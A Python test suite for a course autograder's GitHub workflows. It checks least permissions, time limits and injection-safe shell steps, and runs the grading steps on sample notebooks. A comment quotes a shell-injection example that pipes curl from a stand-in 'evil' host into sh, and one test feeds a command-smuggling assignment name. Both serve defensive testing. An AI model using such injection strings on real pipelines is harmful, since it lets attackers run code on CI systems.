"""The GitHub workflows in ci/github/ as a course copies them: least permissions, a time limit per
job, inputs that never become shell code, and their commands run as written."""
import csv
import os
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
import yaml
from conftest import REPO

WORKFLOWS = sorted((REPO / "ci" / "github").glob("*.yml"))
SLUG = "attention_basics"


def workflow(path):
    return yaml.safe_load(path.read_text())


def steps(flow):
    return [step for job in flow["jobs"].values() for step in job["steps"]]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_least_permissions_a_time_limit_and_no_expression_in_shell_lines(path):
    flow = workflow(path)
    assert flow["permissions"] == {"contents": "read"}
    for name, job in flow["jobs"].items():
        assert 0 < job["timeout-minutes"] <= 120, name
    for step in steps(flow):
        # ${{ ... }} in a run line is pasted into the script before the shell sees it: an input
        # such as `x"; curl evil | sh; "` would run. Expressions go through env: instead.
        assert "${{" not in step.get("run", ""), step
        if step.get("uses", "").startswith("actions/checkout"):
            assert step["with"]["persist-credentials"] is False


def run_step(step, cwd, values):
    """A step's shell line run by bash as the runner would, its env: expressions filled from `values`."""
    env = {key: re.sub(r"\$\{\{\s*([\w.]+)\s*\}\}", lambda m: values[m.group(1)], str(value))
           for key, value in step.get("env", {}).items()}
    return subprocess.run(["bash", "-e", "-c", step["run"]], cwd=cwd, capture_output=True, text=True, timeout=600,
                          env={**os.environ, **env})


def test_the_grading_workflow_runs_as_written(tmp_path):
    assert shutil.which("sudo"), "the workflow grades under sudo (.ci/run installs it)"
    flow = workflow(REPO / "ci" / "github" / "grade-submissions.yml")
    course = tmp_path / "course"
    for name in ("assignments", "solutions", "graders"):
        shutil.copytree(REPO / name, course / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO / "samples" / SLUG, course / "submissions")
    (course / ".venv").symlink_to(REPO / ".venv")
    grade = next(s for s in flow["jobs"]["grade"]["steps"] if s.get("name", "").startswith("Grade shard"))
    shards = flow["jobs"]["grade"]["strategy"]["matrix"]["shard"]
    downloads = tmp_path / "downloads"
    for shard in shards:
        result = run_step(grade, course, {"inputs.assignment": SLUG, "inputs.submissions": "submissions",
                                          "matrix.shard": str(shard)})
        assert result.returncode == 0, result.stderr
        shutil.move(course / "graded", downloads / f"graded-{shard}")  # upload, then download-artifact
    (downloads / ".venv").symlink_to(REPO / ".venv")
    join = next(s for s in flow["jobs"]["gradebook"]["steps"] if s.get("name") == "Join the shards")
    result = run_step(join, downloads, {})
    assert result.returncode == 0, result.stderr
    rows = {r["submission"]: r["score"] for r in csv.DictReader((downloads / "gradebook" / "grades.csv").open())}
    assert rows == {"correct.ipynb": "21", "scale_by_d_k.ipynb": "16", "unfinished.ipynb": "12",
                    "wrong_mask_direction.ipynb": "16"}


def test_an_input_that_looks_like_shell_code_or_an_option_stays_a_name(tmp_path):
    flow = workflow(REPO / "ci" / "github" / "grade-submissions.yml")
    grade = next(s for s in flow["jobs"]["grade"]["steps"] if s.get("name", "").startswith("Grade shard"))
    (tmp_path / ".venv").symlink_to(REPO / ".venv")
    result = run_step(grade, tmp_path, {"inputs.assignment": '--root=/; touch pwned; "', "inputs.submissions": "x",
                                        "matrix.shard": "1"})
    assert result.returncode == 2 and "no assignment '--root=/; touch pwned; \"' here" in result.stderr
    assert not (tmp_path / "pwned").exists()


def test_the_students_check_runs_on_the_unzipped_handout_as_written(tmp_path):
    """The template repository is the unzipped handout (`<slug>/<slug>.ipynb` beside its checks file): the
    step finds the notebook there, passes a correct one and fails the push for a wrong one."""
    flow = workflow(REPO / "ci" / "github" / "student-check.yml")
    check = next(s for s in flow["jobs"]["check"]["steps"] if s.get("name") == "Visible checks")
    made = subprocess.run([sys.executable, "-m", "autograder", "--root", str(REPO), "handout", SLUG, "--out",
                           str(tmp_path)], capture_output=True, text=True, timeout=300)
    assert made.returncode == 0, made.stderr
    results = {}
    for sample in ("correct", "wrong_mask_direction"):
        repo = tmp_path / sample
        zipfile.ZipFile(tmp_path / f"{SLUG}.zip").extractall(repo)
        shutil.copy(REPO / "samples" / SLUG / f"{sample}.ipynb", repo / SLUG / f"{SLUG}.ipynb")
        # The installed wheel's `autograder` command: this checkout's, outside the course repository.
        results[sample] = subprocess.run(["bash", "-e", "-c", check["run"]], cwd=repo, capture_output=True, text=True,
                                         timeout=600, env={**os.environ, "PATH": f"{REPO / '.venv' / 'bin'}:/usr/bin:/bin"})
    assert results["correct"].returncode == 0, results["correct"].stdout + results["correct"].stderr
    assert f"{SLUG}.ipynb" in results["correct"].stdout
    assert results["wrong_mask_direction"].returncode == 1


def test_the_students_workflow_installs_the_torch_the_package_pins():
    """The workflow names torch's CPU build before the wheel (else pip would pull a CUDA build): it must be the pin
    in pyproject.toml, or the wheel's own requirement would replace it."""
    from autograder.requirements import torch_requirement

    flow = workflow(REPO / "ci" / "github" / "student-check.yml")
    install = next(s for s in flow["jobs"]["check"]["steps"] if s.get("name", "").startswith("Install the grader"))
    assert f'"{torch_requirement()}" --index-url https://download.pytorch.org/whl/cpu' in install["run"]
